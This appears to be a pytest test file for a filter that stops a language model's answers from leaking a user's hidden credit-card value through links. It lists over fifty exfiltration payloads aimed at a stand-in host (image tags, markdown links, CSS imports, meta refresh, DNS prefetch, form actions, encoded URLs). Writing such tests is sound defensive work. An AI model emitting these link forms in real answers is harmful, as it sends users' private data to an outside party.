"""If these fail, a link in a model's answer carries a user's data to whoever it leads to."""

import pytest

from firewalls import CARD, Wall, chat, said, streamed

pytestmark = pytest.mark.anyio
HIDDEN = "<CREDIT_CARD_1>"
OUT = "https://out.example/?c="
LETTER = "\u00e9"
FAR = "a b " * 5000
LEAKS = [
    f'<img src="{OUT} {HIDDEN}">',
    f'<img src="{OUT}<https://docs.example> {HIDDEN}">',
    f"<a href = '{OUT}\n{HIDDEN}'>x</a>",
    f"[x]({OUT}\t{HIDDEN})",
    f"[x](<{OUT} {HIDDEN}>)",
    f"see {OUT}{'a' * 3000}{HIDDEN}",
    f"[x]({OUT}{LETTER * 3000}{HIDDEN})",
    f"www.out.example/?c={HIDDEN}",
    f"mailto:me@out.example?body={HIDDEN}",
    f"[x](\x0b{OUT}{HIDDEN})",
    f"<img src={OUT}\u00a0{HIDDEN}>",
    f"<img src={OUT}\x1f\u3000{HIDDEN}>",
    f'<img src="{" " * 20}{OUT} {HIDDEN}">',
    f"<p style=\"background: url( '{OUT} {HIDDEN}')\">",
    f'<img src="&#x2f;&sol;out.example/?c= {HIDDEN}">',
    f"<img src=&#104;ttps&colon;&#x2f;&#x2f;out.example/?c={HIDDEN}>",
    f'<img src="{OUT}{FAR}{HIDDEN}">',
    f'<img src="{FAR}{OUT} {HIDDEN}">',
    f"[x]({OUT}{FAR}{HIDDEN})",
    f"[x](<{OUT}{FAR}{HIDDEN}>)",
    f'<img alt="{FAR}" src ={" " * 9000}"{OUT} {HIDDEN}">',
    f"[x]({OUT}{'a' * 30_000}{HIDDEN})",
    f'<meta http-equiv=refresh content="0; url={OUT} {HIDDEN}">',
    f"<meta http-equiv=refresh content='0,{OUT} {HIDDEN}'>",
    f'<img srcset="a.png 1x, {OUT}{HIDDEN} 2x">',
    f"<link rel=dns-prefetch href=//{HIDDEN}.out.example>",
    f"<link rel=preconnect href='https://{HIDDEN}.out.example'>",
    f'<svg><image href="{OUT} {HIDDEN}"/><use href="{OUT}1"/></svg>',
    f"@import '{OUT}{HIDDEN}';",
    f"[a]: {OUT}{HIDDEN}",
    f"<{OUT}{HIDDEN}>",
    f"//out.example/?c={HIDDEN}",
    f'<style>a{{background:url("{OUT}\\" {HIDDEN}")}}</style>',
    f"<style>a{{background:url({OUT}\\ {HIDDEN})}}</style>",
    f'<style>@import "{OUT} {HIDDEN}";</style>',
    f'<style>@import "\\2f\\2f out.example/ {HIDDEN}";</style>',
    f"<p style='background:url(\\2f\\2f out.example/{HIDDEN})'>",
    f'{{"url": "{OUT} {HIDDEN}"}}',
    f"[x](<{OUT}\\> {HIDDEN}>)",
    f"[x](https://docs.example{HIDDEN}.out.example/)",
    f"[x](https://docs.example:{HIDDEN}@out.example/)",
    f"[x](https://docs.example,{HIDDEN}@out.example/)",
    f'<img src="https://docs.example {HIDDEN}@out.example/">',
    f'<img src="https://docs.example @out.example/{HIDDEN}">',
    f"sms:+15550100?body={HIDDEN}",
    f'<a href="sms:+15550100;?&body=hi {HIDDEN}">x</a>',
    f"fetch out.example/?c={HIDDEN}",
    f"192.0.2.7:8080/{HIDDEN}",
    f'<input name=c value="{HIDDEN}" form=f><form id=f action="{OUT}1"></form>',
    f'<button formaction="{OUT}1" name=c value="{HIDDEN}">x</button>',
    f'<base href="//out.example/"><img src="?c={HIDDEN}">',
    f'<form action="{OUT}1"><input type=hidden name=c value="{HIDDEN}"></form>',
]
HARMLESS = [
    f"pay with {HIDDEN}",
    f'<b title="{HIDDEN}">{HIDDEN}</b>',
    f'<a href="{OUT}1">shop</a> took {HIDDEN}',
    f"[shop]({OUT}1) took {HIDDEN}",
    f"(see {OUT}1 for {HIDDEN})",
    f"[card](mailto:{HIDDEN})",
    f"www.docs.example/?c={HIDDEN}",
    f'<b title="{FAR}{HIDDEN}">{FAR}{HIDDEN}</b>',
    f'<a href="https://docs.example/?q={FAR}{HIDDEN}">x</a>',
    f"https://docs.example/{'a' * 30_000}{HIDDEN}",
    f'<a href="{OUT}{FAR}">shop</a> took {HIDDEN}',
    f"docs.example/?c={HIDDEN}",
    f'<a href="https://docs.example">shop</a>, {HIDDEN}',
    f"the users' {OUT}1 page took {HIDDEN} and/or e.g./{HIDDEN} at 1/2",
    f"a < b and x = 'it' for {HIDDEN}, see {OUT}1 or not",
]


async def test_no_value_goes_out_in_a_link_that_is_itself_restored():
    text = f"see <URL_1>{HIDDEN} and <URL_1>"
    wall = Wall()
    wall.vaults.vault("s1").hide("URL", OUT)
    wall.vaults.vault("s1").hide("CREDIT_CARD", CARD)
    expected = text.replace("<URL_1>", OUT)
    whole = await wall.result(chat(), said(text))
    assert whole.payload["choices"][0]["message"]["content"] == expected
    for pieces in ([text], list(text)):
        assert streamed(wall.stream(), pieces) == (expected, None)


async def answered(text):
    """The answer as a whole and as a stream; the session's model knows one card."""
    wall = Wall(to_model={"financial": "tokenise"}, links=["docs.example"])
    await wall.request(chat(("user", CARD)))
    payload = said(text)
    verdict = await wall.result(chat(), payload)
    size = 7 if len(text) < 1000 else 997
    whole = (getattr(verdict, "payload", None) or payload)["choices"][0]["message"]["content"]
    return whole, streamed(
        wall.stream(), [text[at : at + size] for at in range(0, len(text), size)]
    )[0]


@pytest.mark.parametrize("text", LEAKS, ids=range(len(LEAKS)))
async def test_no_value_goes_out_in_a_link_however_it_is_written(text):
    for answer in await answered(text):
        assert CARD not in answer
        assert HIDDEN in answer


@pytest.mark.parametrize("text", HARMLESS, ids=range(len(HARMLESS)))
async def test_the_user_gets_values_back_beside_links(text):
    assert await answered(text) == (text.replace(HIDDEN, CARD),) * 2
